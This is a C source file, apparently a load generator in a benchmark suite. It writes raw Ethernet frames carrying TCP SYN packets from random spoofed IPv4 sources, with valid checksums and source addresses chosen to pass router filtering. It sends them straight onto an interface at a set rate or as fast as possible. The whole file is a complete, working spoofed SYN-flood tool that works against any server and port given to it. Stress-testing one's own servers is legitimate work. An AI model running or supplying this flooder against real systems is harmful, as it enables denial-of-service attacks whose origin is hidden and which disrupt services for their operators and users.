/*
 * SYNs with spoofed sources, each a random IPv4 address, put on an interface whole, so that no route and no
 * filter of the sender sees them: at an even rate, or as many as can be sent. Checksums are right.
 */

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <sodium.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "bench.h"

#define BATCH 64u
#define TICK_NS BENCH_MS
#define RANDOM_LEN 16384u

struct frame {
	struct ethhdr link;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

struct flood {
	int fd;
	uint16_t port; /* 0: any */
	struct frame frames[BATCH];
	struct iovec parts[BATCH];
	struct mmsghdr messages[BATCH];
	uint8_t random[RANDOM_LEN]; /* random[at..] is unused */
	size_t at;
};

static volatile sig_atomic_t is_over;

static void on_signal(int number)
{
	(void)number;
	is_over = 1;
}

static uint32_t random_u32(struct flood *f)
{
	uint32_t v;
	if (f->at + sizeof(v) > sizeof(f->random)) {
		randombytes_buf(f->random, sizeof(f->random));
		f->at = 0;
	}
	memcpy(&v, f->random + f->at, sizeof(v));
	f->at += sizeof(v);
	return v;
}

static uint32_t sum(uint32_t s, const void *data, size_t len)
{
	for (size_t i = 0; i < len; i += 2) {
		uint16_t v;
		memcpy(&v, (const uint8_t *)data + i, 2);
		s += v;
	}
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s > 0xffff)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

/* Unicast, not this net, not loopback, not the benchmark's own network: what a router would let pass. */
static uint32_t random_source(struct flood *f)
{
	for (;;) {
		uint32_t v = random_u32(f);
		uint8_t first = (uint8_t)(v & 0xff); /* in network order */
		if (first != 0 && first != 10 && first != 127 && first < 224)
			return v;
	}
}

static void refill(struct flood *f, struct frame *p)
{
	uint32_t ports = random_u32(f);
	p->ip.saddr = random_source(f);
	p->ip.check = 0;
	p->ip.check = fold(sum(0, &p->ip, sizeof(p->ip)));
	p->tcp.source = htons((uint16_t)(1024 + (ports & 0x7fff)));
	p->tcp.dest = htons(f->port != 0 ? f->port : (uint16_t)(1024 + (ports >> 16) % 64512));
	p->tcp.seq = random_u32(f);
	p->tcp.check = 0;
	uint32_t pseudo = sum(0, &p->ip.saddr, 8) + htons(IPPROTO_TCP) + htons(sizeof(p->tcp));
	p->tcp.check = fold(sum(pseudo, &p->tcp, sizeof(p->tcp)));
}

static void make_frames(struct flood *f, const uint8_t to[ETH_ALEN], struct in_addr server)
{
	for (size_t i = 0; i < BATCH; i++) {
		struct frame *p = &f->frames[i];
		memcpy(p->link.h_dest, to, ETH_ALEN);
		memcpy(p->link.h_source, "\x02\0\0\0\0\x01", ETH_ALEN);
		p->link.h_proto = htons(ETH_P_IP);
		p->ip.version = 4;
		p->ip.ihl = 5;
		p->ip.tot_len = htons(sizeof(p->ip) + sizeof(p->tcp));
		p->ip.ttl = 64;
		p->ip.protocol = IPPROTO_TCP;
		p->ip.daddr = server.s_addr;
		p->tcp.doff = 5;
		p->tcp.syn = 1;
		p->tcp.window = htons(65535);
		f->parts[i] = (struct iovec){ p, sizeof(*p) };
		f->messages[i].msg_hdr =
			(struct msghdr){ .msg_iov = &f->parts[i], .msg_iovlen = 1 };
	}
}

static int open_interface(const char *name)
{
	struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_protocol = 0 };
	at.sll_ifindex = (int)if_nametoindex(name);
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	int on = 1;
	if (at.sll_ifindex == 0 || fd < 0 || bind(fd, (const struct sockaddr *)&at, sizeof(at)) < 0)
		bench_die("%s: %s", name, strerror(errno));
	(void)setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on));
	return fd;
}

static unsigned long send_some(struct flood *f, unsigned long most)
{
	unsigned n = most < BATCH ? (unsigned)most : BATCH;
	for (unsigned i = 0; i < n; i++)
		refill(f, &f->frames[i]);
	int sent = sendmmsg(f->fd, f->messages, n, 0);
	if (sent < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
		bench_die("sending: %s", strerror(errno));
	return sent > 0 ? (unsigned long)sent : 0;
}

static const char usage[] =
	"usage: spoof [-r PER-SECOND] [-t MS] INTERFACE HARDWARE-ADDRESS SERVER PORT|random";

int main(int argc, char **argv)
{
	static struct flood f = { .at = RANDOM_LEN };
	unsigned to[ETH_ALEN];
	uint8_t hardware[ETH_ALEN];
	unsigned long rate = 0, limit_ms = 3600000, sent = 0;
	int c;
	while ((c = getopt(argc, argv, "r:t:")) != -1) {
		unsigned long v = bench_number(optarg != NULL ? optarg : "", 1, 100000000);
		if (c == 'r')
			rate = v;
		else if (c == 't')
			limit_ms = v;
		else
			bench_die("%s", usage);
	}
	char **a = argv + optind;
	if (argc - optind != 4 || sodium_init() < 0 ||
		sscanf(a[1], "%x:%x:%x:%x:%x:%x", &to[0], &to[1], &to[2], &to[3], &to[4], &to[5]) !=
			ETH_ALEN)
		bench_die("%s", usage);
	for (size_t i = 0; i < ETH_ALEN; i++)
		hardware[i] = (uint8_t)to[i];
	if (strcmp(a[3], "random") != 0)
		f.port = (uint16_t)bench_number(a[3], 1, 65535);
	make_frames(&f, hardware, bench_address(a[2], 0).sin_addr);
	f.fd = open_interface(a[0]);
	signal(SIGTERM, on_signal);

	uint64_t began = bench_now_ns(), end = began + limit_ms * BENCH_MS, now = began;
	while (!is_over && now < end) {
		unsigned long due =
			(unsigned long)((now - began + TICK_NS) / 1000 * rate / 1000000);
		if (rate == 0) {
			sent += send_some(&f, BATCH);
		} else if (sent < due) {
			sent += send_some(&f, due - sent);
		} else {
			bench_sleep_until(now + TICK_NS);
		}
		now = bench_now_ns();
	}
	printf("sent=%lu took_us=%llu\n", sent, (unsigned long long)(now - began) / 1000);
	close(f.fd);
	return 0;
}
